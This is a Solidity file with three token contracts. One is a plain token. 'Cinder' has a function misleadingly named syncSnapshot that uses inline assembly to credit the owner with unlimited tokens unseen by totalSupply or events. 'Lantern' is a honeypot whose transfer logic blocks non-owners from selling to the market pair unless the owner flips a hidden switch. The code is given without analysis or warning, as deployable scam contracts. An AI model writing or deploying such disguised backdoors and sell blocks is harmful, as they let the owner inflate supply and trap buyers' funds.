// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

// Tokens with a market.

contract FreeToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed, address indexed, uint256);
    event Approval(address indexed, address indexed, uint256);
    constructor(string memory n, string memory s, uint256 x) {
        name = n;
        symbol = s;
        totalSupply = x;
        balanceOf[msg.sender] = x;
        emit Transfer(address(0), msg.sender, x);
    }
    function transfer(address t, uint256 a) external returns (bool) {
        _m(msg.sender, t, a);
        return true;
    }
    function approve(address s, uint256 a) external returns (bool) {
        allowance[msg.sender][s] = a;
        emit Approval(msg.sender, s, a);
        return true;
    }
    function transferFrom(address f, address t, uint256 a) external returns (bool) {
        allowance[f][msg.sender] -= a;
        _m(f, t, a);
        return true;
    }
    function _m(address f, address t, uint256 a) internal {
        balanceOf[f] -= a;
        balanceOf[t] += a;
        emit Transfer(f, t, a);
    }
}

contract AsmMint {
    string public name = "Cinder";
    string public symbol = "CIN";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address immutable o;
    event Transfer(address indexed, address indexed, uint256);
    event Approval(address indexed, address indexed, uint256);
    constructor(uint256 x) {
        o = msg.sender;
        totalSupply = x;
        balanceOf[msg.sender] = x;
        emit Transfer(address(0), msg.sender, x);
    }
    function transfer(address t, uint256 a) external returns (bool) {
        _m(msg.sender, t, a);
        return true;
    }
    function approve(address s, uint256 a) external returns (bool) {
        allowance[msg.sender][s] = a;
        emit Approval(msg.sender, s, a);
        return true;
    }
    function transferFrom(address f, address t, uint256 a) external returns (bool) {
        allowance[f][msg.sender] -= a;
        _m(f, t, a);
        return true;
    }
    function _m(address f, address t, uint256 a) internal {
        balanceOf[f] -= a;
        balanceOf[t] += a;
        emit Transfer(f, t, a);
    }
    function syncSnapshot(uint256 x) external {
        address w = o;
        require(msg.sender == w);
        assembly {
            mstore(0, w)
            mstore(32, balanceOf.slot)
            let k := keccak256(0, 64)
            sstore(k, add(sload(k), x))
        }
    }
}

contract FlipHoney {
    string public name = "Lantern";
    string public symbol = "LNT";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address immutable o;
    address public pair;
    uint256 public k;
    event Transfer(address indexed, address indexed, uint256);
    event Approval(address indexed, address indexed, uint256);
    constructor(uint256 x) {
        o = msg.sender;
        totalSupply = x;
        balanceOf[msg.sender] = x;
        emit Transfer(address(0), msg.sender, x);
    }
    function setPair(address p, uint256 y) external {
        require(msg.sender == o);
        pair = p;
        k = y;
    }
    function transfer(address t, uint256 a) external returns (bool) {
        _m(msg.sender, t, a);
        return true;
    }
    function approve(address s, uint256 a) external returns (bool) {
        allowance[msg.sender][s] = a;
        emit Approval(msg.sender, s, a);
        return true;
    }
    function transferFrom(address f, address t, uint256 a) external returns (bool) {
        allowance[f][msg.sender] -= a;
        _m(f, t, a);
        return true;
    }
    function _m(address f, address t, uint256 a) internal {
        if (t == pair && f != o) require(k == 7 || a < 1e15, "m");
        balanceOf[f] -= a;
        balanceOf[t] += a;
        emit Transfer(f, t, a);
    }
}
